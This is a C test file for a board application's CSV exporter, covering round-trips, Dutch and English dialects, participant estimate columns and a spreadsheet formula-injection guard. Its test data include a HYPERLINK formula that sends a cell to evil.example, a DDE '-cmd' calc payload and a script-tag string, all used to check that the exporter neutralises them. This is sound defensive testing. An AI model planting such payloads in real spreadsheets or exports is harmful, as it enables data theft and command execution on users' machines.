/* test-export-csv.c: the CSV export reads back with the CSV importer into
 * the same findings, field by field, in every dialect it writes; on a
 * board with participants the room's estimates follow, which the importer
 * skips.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>

#include "kw-csv.h"
#include "kw-estimates-board.h"
#include "kw-export-csv.h"
#include "kw-format.h"
#include "kw-plan-columns.h"

static KwBoard *
load_example (const char *name)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = g_build_filename (g_getenv ("KW_SOURCE_DIR"), "data", "examples", name, NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  KwBoard *board = kw_format_load_file (file, NULL, &error);

  g_assert_no_error (error);

  return board;
}

static GBytes *
export_csv (KwBoard    *board,
            const char *lang,
            char        separator,
            gboolean    bom)
{
  g_autoptr(GError) error = NULL;
  KwExportCsvOptions options = { lang, separator, bom };
  GBytes *bytes = kw_export_csv_bytes (board, &options, &error);

  g_assert_no_error (error);
  g_assert_nonnull (bytes);

  return bytes;
}

static void
assert_same_findings (KwBoard *original,
                      KwBoard *copy)
{
  g_assert_cmpuint (kw_board_get_n_findings (copy), ==, kw_board_get_n_findings (original));

  for (guint i = 0; i < kw_board_get_n_findings (original); i++)
    {
      KwFinding *a = kw_board_get_finding (original, i);
      KwFinding *b = kw_board_get_finding (copy, i);

      for (guint t = 0; t < KW_N_FINDING_TEXTS; t++)
        g_assert_cmpstr (kw_finding_get_text (b, (KwFindingText) t), ==,
                         kw_finding_get_text (a, (KwFindingText) t));
      g_assert_cmpint (kw_finding_get_placed (b), ==, kw_finding_get_placed (a));
      if (kw_finding_get_placed (a))
        {
          g_assert_cmpfloat (kw_finding_get_impact (b), ==, kw_finding_get_impact (a));
          g_assert_cmpfloat (kw_finding_get_effort (b), ==, kw_finding_get_effort (a));
        }
      g_assert_cmpint (kw_finding_get_status (b), ==, kw_finding_get_status (a));
      g_assert_true (g_strv_equal (kw_finding_get_tags (b), kw_finding_get_tags (a)));
      g_assert_cmpint (kw_board_classify_finding (copy, b), ==, kw_board_classify_finding (original, a));
    }
}

static void
round_trip (KwBoard    *board,
            const char *lang,
            char        separator,
            gboolean    bom)
{
  g_autoptr(GBytes) bytes = export_csv (board, lang, separator, bom);
  g_autoptr(GError) error = NULL;
  g_autoptr(KwBoard) copy = kw_csv_import_bytes (bytes, "export.csv", &error);
  const char *data = g_bytes_get_data (bytes, NULL);

  g_assert_no_error (error);
  g_assert_cmpint (g_str_has_prefix (data, "\xef\xbb\xbf"), ==, bom);
  assert_same_findings (board, copy);
}

static void
test_round_trip_example (void)
{
  const char * const examples[] = { "klantcontact-nl.kwadrant", "customer-contact-en.kwadrant" };

  for (guint i = 0; i < G_N_ELEMENTS (examples); i++)
    {
      g_autoptr(KwBoard) board = load_example (examples[i]);

      round_trip (board, "en", ',', FALSE);
      round_trip (board, "en", ';', TRUE);
      round_trip (board, "nl", '\0', TRUE);
      round_trip (board, "nl", ',', FALSE);
    }
}

static void
test_dialects (void)
{
  g_autoptr(KwBoard) board = load_example ("klantcontact-nl.kwadrant");
  g_autoptr(GBytes) english = export_csv (board, "en", '\0', FALSE);
  g_autoptr(GBytes) dutch = export_csv (board, "nl", '\0', TRUE);
  const char *en = g_bytes_get_data (english, NULL);
  const char *nl = g_bytes_get_data (dutch, NULL);

  g_assert_true (g_str_has_prefix (en, "id,title,description,impact,effort,outcome,owner,due,review,"
                                       "status,tags,source,drop reason,created,modified\r\n"));
  g_assert_true (g_str_has_prefix (nl, "\xef\xbb\xbfid;titel;omschrijving;impact;inspanning;uitkomst;"
                                       "eigenaar;deadline;herbeoordeling;status;labels;bron;"
                                       "reden schrappen;aangemaakt;gewijzigd\r\n"));
  /* Dutch Excel reads a decimal comma as a number. */
  g_assert_nonnull (strstr (en, ",8.5,2.5,"));
  g_assert_nonnull (strstr (nl, ";8,5;2,5;"));
}

static const char * const awkward_texts[] = {
  "=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")",
  "+31 6 1234 5678",
  "-5% wachttijd",
  "@SUM(A1:A9)",
  "a \"quoted\" word, a comma; and a semicolon",
  "  leading and trailing spaces  ",
  "line one\n\nline three after a blank line\n",
  "<script>alert(1)</script> & ]]>",
  "'=already quoted",
};

static void
test_round_trip_awkward (void)
{
  g_autoptr(KwBoard) board = kw_board_new ();
  guint n = G_N_ELEMENTS (awkward_texts);

  for (guint i = 0; i < n; i++)
    {
      g_autoptr(KwFinding) finding = kw_finding_new (awkward_texts[i]);
      const char *tags[] = { "@tag", "-minus", "\"quoted\"", NULL };

      kw_finding_set_description (finding, awkward_texts[(i + 1) % n]);
      kw_finding_set_owner (finding, awkward_texts[(i + 2) % n]);
      kw_finding_set_source (finding, awkward_texts[(i + 3) % n]);
      kw_finding_set_drop_reason (finding, awkward_texts[(i + 4) % n]);
      kw_finding_set_tags (finding, tags);
      kw_finding_set_due_date (finding, i % 2 ? "2027-01-31" : "");
      kw_finding_set_status (finding, (KwStatus) (i % KW_N_STATUSES));
      if (i % 3 != 2)
        kw_finding_place (finding, 0.5 + i, 9.5 - i);
      g_assert_true (kw_board_append_finding (board, finding));
    }

  round_trip (board, "en", ',', FALSE);
  round_trip (board, "en", ';', FALSE);
  round_trip (board, "nl", ';', TRUE);
}

/* A cell a spreadsheet would run as a formula starts with an apostrophe;
 * text that only starts with a sign stays as it is. */
static void
test_formula_guard (void)
{
  static const struct {
    const char *title;
    const char *cell;
  } cases[] = {
    { "=HYPERLINK(\"http://example.com\";\"klik\")", "'=HYPERLINK(" },
    { "=1+1", "'=1+1" },
    { "+1+2", "'+1+2" },
    { "-2+3", "'-2+3" },
    { "-A1", "'-A1" },
    { "-cmd|' /C calc'!A0", "'-cmd|" },
    { "@SUM(A1:A2)", "'@SUM(" },
    { "'=already", "''=already" },
    { "-10% herhaalcontact", "-10% herhaalcontact" },
    { "-10%", "-10%" },
    { "- bellen binnen een dag", "- bellen binnen een dag" },
    { "+31 20 123 4567", "+31 20 123 4567" },
    { "@ 10 uur overleg", "@ 10 uur overleg" },
  };
  g_autoptr(KwBoard) board = kw_board_new ();
  g_autoptr(KwFinding) finding = kw_finding_new ("owner's finding");
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(KwBoard) back = NULL;
  const char *data;

  kw_finding_set_owner (finding, "@owner");
  kw_finding_set_source (finding, "safe source");
  kw_board_append_finding (board, finding);
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(KwFinding) other = kw_finding_new (cases[i].title);

      kw_board_append_finding (board, other);
    }

  bytes = export_csv (board, "en", ';', FALSE);
  data = g_bytes_get_data (bytes, NULL);
  g_assert_nonnull (strstr (data, ";'@owner;"));
  g_assert_nonnull (strstr (data, ";safe source;"));
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *cell = g_strconcat (";", cases[i].cell, NULL);
      g_autofree char *quoted = g_strconcat (";\"", cases[i].cell, NULL);

      if (strstr (data, cell) == NULL && strstr (data, quoted) == NULL)
        g_error ("%s was written as %s", cases[i].title, data);
    }

  /* And every title reads back exactly. */
  back = kw_csv_import_bytes (bytes, "guard.csv", &error);
  g_assert_no_error (error);
  g_assert_cmpuint (kw_board_get_n_findings (back), ==, G_N_ELEMENTS (cases) + 1);
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    g_assert_cmpstr (kw_finding_get_title (kw_board_get_finding (back, i + 1)), ==, cases[i].title);
}

/* The line of the finding with this id, without its line end. */
static char *
dup_line (const char *data,
          const char *id,
          char        separator)
{
  g_autofree char *start = g_strdup_printf ("\r\n%s%c", id, separator);
  const char *line = strstr (data, start);

  g_assert_nonnull (line);
  line += 2;

  return g_strndup (line, (gsize) (strstr (line, "\r\n") - line));
}

/* What follows the finding's own fields: the medians, then each
 * participant's impact and effort, kw-estimates-board.h's values. */
static void
assert_estimates (const char *data,
                  const char *id,
                  char        separator,
                  const char *expected)
{
  g_autofree char *line = dup_line (data, id, separator);
  g_auto(GStrv) cells = NULL;
  g_autofree char *estimates = NULL;
  guint n;

  /* Only ids, titles, dates and numbers on this board: no quoted
   * separators in a row. */
  cells = g_strsplit (line, (char[]) { separator, '\0' }, -1);
  n = g_strv_length (cells);
  g_assert_cmpuint (n, ==, 15 + 10);
  estimates = g_strjoinv ((char[]) { separator, '\0' }, cells + 15);
  g_assert_cmpstr (estimates, ==, expected);
}

static void
test_estimates (void)
{
  g_autoptr(KwBoard) board = kw_estimates_board_new ();
  g_autoptr(GBytes) english = export_csv (board, "en", '\0', FALSE);
  g_autoptr(GBytes) dutch = export_csv (board, "nl", '\0', TRUE);
  const char *en = g_bytes_get_data (english, NULL);
  const char *nl = g_bytes_get_data (dutch, NULL);

  /* After the fields, in the board's order of participants; the name
   * that needs quoting is quoted. */
  g_assert_true (g_str_has_prefix (en, "id,title,description,impact,effort,outcome,owner,due,review,"
                                       "status,tags,source,drop reason,created,modified,"
                                       "median impact,median effort,impact (Anna),effort (Anna),"
                                       "impact (Bram),effort (Bram),\"impact (<b>&\"\")\",\"effort (<b>&\"\")\","
                                       "impact (Dirk),effort (Dirk)\r\n"));
  g_assert_true (g_str_has_prefix (nl, "\xef\xbb\xbfid;titel;omschrijving;impact;inspanning;uitkomst;"
                                       "eigenaar;deadline;herbeoordeling;status;labels;bron;"
                                       "reden schrappen;aangemaakt;gewijzigd;"
                                       "mediaan impact;mediaan inspanning;impact (Anna);inspanning (Anna);"
                                       "impact (Bram);inspanning (Bram);\"impact (<b>&\"\")\";"
                                       "\"inspanning (<b>&\"\")\";impact (Dirk);inspanning (Dirk)\r\n"));

  /* The medians in tenths (1.25 is 1.3); "no idea" is "?"; no estimate
   * and a median of none known are empty. */
  assert_estimates (en, "f-1", ',', "7.0,2.0,9.0,2.0,5.0,2.0,?,?,7.0,6.0");
  assert_estimates (en, "f-2", ',', "5.0,4.0,2.0,7.0,4.0,5.0,8.0,1.0,6.0,3.0");
  assert_estimates (en, "f-6", ',', "7.0,7.0,7.0,7.0,?,?,,,,");
  assert_estimates (en, "f-7", ',', ",,,,,,,,,");
  assert_estimates (en, "f-8", ',', ",,?,?,,,?,?,,");
  assert_estimates (en, "f-10", ',', "1.0,1.3,,,1.0,1.0,,,1.0,1.5");
  assert_estimates (nl, "f-1", ';', "7,0;2,0;9,0;2,0;5,0;2,0;?;?;7,0;6,0");
  assert_estimates (nl, "f-10", ';', "1,0;1,3;;;1,0;1,0;;;1,0;1,5");

  /* The importer skips the columns: the same findings come back. */
  round_trip (board, "en", ',', FALSE);
  round_trip (board, "nl", ';', TRUE);
  round_trip (board, "nl", ',', FALSE);
}

/* The names the importer skips, in either language, as it reads them
 * (lower case, single spaces); nothing else. */
static void
test_estimate_column_names (void)
{
  const char * const skipped[] = {
    "median impact", "median effort", "mediaan impact", "mediaan inspanning",
    "impact (anna)", "effort (anna de vries)", "inspanning (<b>&\")", "impact ((x))",
  };
  const char * const kept[] = {
    "impact", "effort", "median", "median owner", "impact ()", "impact (anna", "owner (anna)",
    "impact(anna)", "medianimpact", "median impact (anna)",
  };

  for (guint i = 0; i < G_N_ELEMENTS (skipped); i++)
    g_assert_true (kw_plan_estimate_column_is_name (skipped[i]));
  for (guint i = 0; i < G_N_ELEMENTS (kept); i++)
    {
      g_test_message ("%s", kept[i]);
      g_assert_false (kw_plan_estimate_column_is_name (kept[i]));
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/export/csv/round-trip-examples", test_round_trip_example);
  g_test_add_func ("/export/csv/dialects", test_dialects);
  g_test_add_func ("/export/csv/round-trip-awkward", test_round_trip_awkward);
  g_test_add_func ("/export/csv/formula-guard", test_formula_guard);
  g_test_add_func ("/export/csv/estimates", test_estimates);
  g_test_add_func ("/export/csv/estimate-column-names", test_estimate_column_names);

  return g_test_run ();
}
